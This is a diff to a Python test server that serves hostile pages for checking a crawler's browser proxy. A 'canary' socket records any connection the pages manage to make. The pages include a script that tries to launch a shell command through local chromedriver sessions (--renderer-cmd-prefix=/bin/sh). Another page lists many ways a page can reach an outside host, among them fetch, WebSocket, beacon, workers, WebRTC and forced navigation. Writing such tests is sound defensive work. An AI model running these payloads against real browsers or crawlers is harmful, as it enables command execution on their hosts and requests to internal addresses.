@@ -10,13 +10,14 @@ from __future__ import annotations
 
 import asyncio
 import gzip
+import socket
 import ssl
 import threading
 from collections.abc import Awaitable, Callable
 
 from aiohttp import web
 
-__all__ = ["SiteServer"]
+__all__ = ["Canary", "SiteServer"]
 
 Handler = Callable[[web.Request], Awaitable[web.StreamResponse]]
 
@@ -104,11 +105,210 @@ SSRF = """<!doctype html><html><head><title>ssrf</title></head><body>
 </body></html>"""
 
 
+DRIVER_ATTACK = """<!doctype html><html><head><title>attack</title></head><body>
+<p id="ok">a page that attacks the crawler</p>
+<script>
+// The red-team attack of issue 9: start a chromedriver session whose Chrome runs a shell command.
+const q = new URLSearchParams(location.search);
+const marker = q.get('marker');
+const caps = {capabilities: {alwaysMatch: {browserName: 'chrome', 'goog:chromeOptions': {
+  binary: '/usr/lib/chromium/chromium',
+  args: ['--headless=new', '--no-sandbox', '--renderer-cmd-prefix=/bin/sh -c touch${IFS}' + marker]}}}};
+const body = JSON.stringify(caps);
+const seen = [];
+function tryOne(url, init) {
+  return fetch(url, init).then(r => seen.push(url + ' ' + r.type + ' ' + r.status),
+                               e => seen.push(url + ' error'));
+}
+const jobs = [];
+for (const port of (q.get('ports') || '').split(',').filter(Boolean)) {
+  const base = 'http://127.0.0.1:' + port;
+  jobs.push(tryOne(base + '/session', {method: 'POST', mode: 'no-cors',
+                                        headers: {'Content-Type': 'text/plain'}, body: body}));
+  jobs.push(tryOne(base + '/json/version', {mode: 'no-cors'}));
+  jobs.push(new Promise(function (done) {
+    try {
+      const ws = new WebSocket('ws://127.0.0.1:' + port + '/devtools/browser');
+      ws.onopen = function () { seen.push(port + ' ws open'); done(); };
+      ws.onerror = function () { seen.push(port + ' ws error'); done(); };
+    } catch (e) { seen.push(port + ' ws throws'); done(); }
+  }));
+}
+Promise.all(jobs).then(function () {
+  fetch('/report?' + encodeURIComponent(seen.join('|'))).finally(function () {
+    const d = document.createElement('p'); d.id = 'done'; d.textContent = seen.join('|');
+    document.body.appendChild(d);
+  });
+});
+</script></body></html>"""
+
+HOSTILE = """<!doctype html><html><head><title>hostile</title>
+<link rel="stylesheet" href="http://%(t)s/v/stylesheet">
+<style>
+@import url(http://%(t)s/v/css-import);
+@font-face { font-family: canary; src: url(http://%(t)s/v/font-face); }
+body { font-family: canary, sans-serif; }
+.bg { background: url(http://%(t)s/v/background); width: 50px; height: 50px; }
+.set { background-image: image-set(url(http://%(t)s/v/image-set) 1x); width: 50px; height: 50px; }
+</style>
+<link rel="prefetch" href="http://%(t)s/v/prefetch">
+<link rel="preload" as="script" href="http://%(t)s/v/preload">
+<link rel="preload" as="fetch" crossorigin href="http://%(t)s/v/preload-fetch">
+<link rel="modulepreload" href="http://%(t)s/v/modulepreload">
+<link rel="preconnect" href="http://%(t)s">
+<link rel="dns-prefetch" href="http://%(t)s">
+<link rel="manifest" href="http://%(t)s/v/manifest">
+<link rel="icon" href="http://%(t)s/v/icon">
+<link rel="apple-touch-icon" href="http://%(t)s/v/touch-icon">
+</head><body>
+<p id="ok">text in the canary font</p>
+<div class="bg"></div><div class="set"></div>
+<img src="http://%(t)s/v/img"><img srcset="http://%(t)s/v/srcset 2x">
+<picture><source srcset="http://%(t)s/v/picture"><img src="/x.png"></picture>
+<svg width="10" height="10"><image href="http://%(t)s/v/svg-image" width="10" height="10"/></svg>
+<input type="image" src="http://%(t)s/v/input-image">
+<video src="http://%(t)s/v/video" poster="http://%(t)s/v/poster" preload="auto" autoplay muted>
+  <track kind="captions" src="http://%(t)s/v/track" default></video>
+<audio src="http://%(t)s/v/audio" preload="auto" autoplay muted></audio>
+<object data="http://%(t)s/v/object" type="text/html" width="10" height="10"></object>
+<embed src="http://%(t)s/v/embed" type="text/html" width="10" height="10">
+<iframe src="http://%(t)s/v/iframe" width="10" height="10"></iframe>
+<iframe name="formframe" width="10" height="10"></iframe>
+<form id="f" method="post" action="http://%(t)s/v/form-post" target="formframe">
+  <input name="a" value="b"></form>
+<iframe id="pingframe" width="10" height="10" srcdoc="<a id=p href='/plain' ping='http://%(t)s/v/ping'>p</a>
+  <script>document.getElementById('p').click()</script>"></iframe>
+<script src="http://%(t)s/v/script"></script>
+<script type="module">import('http://%(t)s/v/dynamic-import').catch(function () {});</script>
+<script>
+const T = '%(t)s';
+function quiet(f) { try { const p = f(); if (p && p.catch) p.catch(function () {}); } catch (e) {} }
+quiet(() => fetch('http://' + T + '/v/fetch'));
+quiet(() => fetch('http://' + T + '/v/fetch-no-cors', {mode: 'no-cors', method: 'POST', body: 'x'}));
+quiet(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://' + T + '/v/xhr'); x.send(); });
+quiet(() => new WebSocket('ws://' + T + '/v/websocket'));
+quiet(() => new WebSocket('wss://' + T + '/v/websocket-tls'));
+quiet(() => new EventSource('http://' + T + '/v/eventsource'));
+quiet(() => navigator.sendBeacon('http://' + T + '/v/beacon', 'x'));
+const workerCode = "try { importScripts('http://" + T + "/v/worker-import'); } catch (e) {}" +
+                   "fetch('http://" + T + "/v/worker-fetch').catch(function () {});";
+quiet(() => new Worker(URL.createObjectURL(new Blob([workerCode], {type: 'text/javascript'}))));
+quiet(() => new SharedWorker(URL.createObjectURL(new Blob([workerCode], {type: 'text/javascript'}))));
+quiet(() => new Worker('http://' + T + '/v/worker-direct'));
+quiet(() => navigator.serviceWorker.register('/sw.js?t=' + encodeURIComponent(T)));
+quiet(() => window.open('http://' + T + '/v/window-open'));
+quiet(() => document.getElementById('f').submit());
+quiet(() => {
+  const pc = new RTCPeerConnection({iceServers: [
+    {urls: 'stun:' + T},
+    {urls: 'turn:' + T + '?transport=udp', username: 'u', credential: 'p'},
+    {urls: 'turn:' + T + '?transport=tcp', username: 'u', credential: 'p'}]});
+  pc.createDataChannel('x');
+  return pc.createOffer().then(o => pc.setLocalDescription(o));
+});
+setTimeout(function () {
+  fetch('/report?hostile-fired').finally(function () {
+    const d = document.createElement('p'); d.id = 'done'; d.textContent = 'fired';
+    document.body.appendChild(d);
+  });
+}, 2500);
+</script></body></html>"""
+
+SERVICE_WORKER = """
+const T = new URL(location.href).searchParams.get('t');
+self.addEventListener('install', function (e) {
+  e.waitUntil(fetch('http://' + T + '/v/sw-install').catch(function () {}));
+});
+fetch('http://' + T + '/v/sw-top').catch(function () {});
+"""
+
+TOP_NAVIGATION = """<!doctype html><html><head><title>frame takes over</title></head><body>
+<p id="ok">outer</p>
+<iframe srcdoc="<script>setTimeout(function () { top.location = 'http://%(t)s/v/top-location'; }, 100)</script>">
+</iframe></body></html>"""
+
+WITH_SUBRESOURCES = """<!doctype html><html><head><title>subresources</title></head><body>
+<p id="ok">page</p>
+<img src="/x.png?own"><img src="http://%(other)s/x.png?other">
+<script>fetch('/xhr?own').then(function () { return fetch('http://%(other)s/xhr?other', {mode: 'no-cors'}); })
+  .finally(function () { const d = document.createElement('p'); d.id = 'done'; document.body.appendChild(d); });
+</script></body></html>"""
+
+
+class Canary:
+    """A TCP and a UDP socket on ``host`` (same port) that record every connection and datagram.
+
+    Aim hostile pages at :attr:`target`; ``hits`` must stay empty when the
+    browser proxy refuses the address. Nothing is ever answered.
+    """
+
+    def __init__(self, host: str) -> None:
+        self.host = host
+        self.hits: list[str] = []
+        self._tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        self._tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self._tcp.bind((host, 0))
+        self.port = int(self._tcp.getsockname()[1])
+        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self._udp.bind((host, self.port))
+        self._tcp.listen(64)
+        self._tcp.settimeout(0.2)
+        self._udp.settimeout(0.2)
+        self._stop = threading.Event()
+        self._threads = [
+            threading.Thread(target=self._accept, name="canary-tcp", daemon=True),
+            threading.Thread(target=self._receive, name="canary-udp", daemon=True),
+        ]
+
+    @property
+    def target(self) -> str:
+        """``host:port``, the same for TCP and UDP."""
+        return f"{self.host}:{self.port}"
+
+    def start(self) -> Canary:
+        """Start recording; returns self."""
+        for t in self._threads:
+            t.start()
+        return self
+
+    def stop(self) -> None:
+        """Stop recording and close both sockets."""
+        self._stop.set()
+        for t in self._threads:
+            t.join(5)
+        self._tcp.close()
+        self._udp.close()
+
+    def _accept(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self._tcp.accept()
+            except (TimeoutError, OSError):
+                continue
+            with conn:
+                conn.settimeout(1.0)
+                try:
+                    first = conn.recv(200)
+                except OSError:
+                    first = b""
+            self.hits.append("tcp " + first.split(b"\r\n", 1)[0].decode("latin-1"))
+
+    def _receive(self) -> None:
+        while not self._stop.is_set():
+            try:
+                data, _ = self._udp.recvfrom(2048)
+            except (TimeoutError, OSError):
+                continue
+            self.hits.append(f"udp {len(data)} bytes")
+
+
 class SiteServer:
     """Serves the test pages on ``host`` (port chosen by the OS) from a daemon thread.
 
-    ``log`` lists the path (with query) of every request received, in order.
-    ``refused`` is the ``host:port`` the SSRF page points at.
+    ``log`` lists the path (with query) of every request received, in order,
+    and ``headers`` the request headers of each (same order). ``refused`` is
+    the ``host:port`` the SSRF page points at. The hostile pages take their
+    target as ``?t=host:port`` (see :class:`Canary`).
     """
 
     def __init__(
@@ -123,6 +323,7 @@ class SiteServer:
         self.ssl_context = ssl_context
         self.port = 0
         self.log: list[str] = []
+        self.headers: list[dict[str, str]] = []
         self._loop = asyncio.new_event_loop()
         self._runner: web.AppRunner | None = None
         self._thread = threading.Thread(
@@ -179,6 +380,12 @@ class SiteServer:
             "/x.js": self._static("console.log(1)"),
             "/xhr": self._static("{}"),
             "/": self._static("<p>root</p>"),
+            "/attack-driver": self._static(DRIVER_ATTACK),
+            "/hostile": self._targeted(HOSTILE),
+            "/top-navigation": self._targeted(TOP_NAVIGATION),
+            "/with-subresources": self._with_subresources,
+            "/sw.js": self._service_worker,
+            "/report": self._static(""),
         }
         for path, handler in routes.items():
             app.router.add_get(path, handler)
@@ -191,6 +398,7 @@ class SiteServer:
     @web.middleware
     async def _logger(self, request: web.Request, handler: Handler) -> web.StreamResponse:
         self.log.append(request.path_qs)
+        self.headers.append(dict(request.headers))
         return await handler(request)
 
     @staticmethod
@@ -199,6 +407,19 @@ class SiteServer:
             return _html(body)
 
         return handler
+
+    @staticmethod
+    def _targeted(body: str) -> Handler:
+        async def handler(request: web.Request) -> web.StreamResponse:
+            return _html(body % {"t": request.query.get("t", "127.0.0.2:9")})
+
+        return handler
+
+    async def _with_subresources(self, request: web.Request) -> web.StreamResponse:
+        return _html(WITH_SUBRESOURCES % {"other": request.query.get("other", "127.0.0.2:9")})
+
+    async def _service_worker(self, request: web.Request) -> web.StreamResponse:
+        return web.Response(text=SERVICE_WORKER, content_type="text/javascript")
 
     async def _ajax(self, request: web.Request) -> web.StreamResponse:
         return _html(AJAX_BOARD % {"delay": 500})
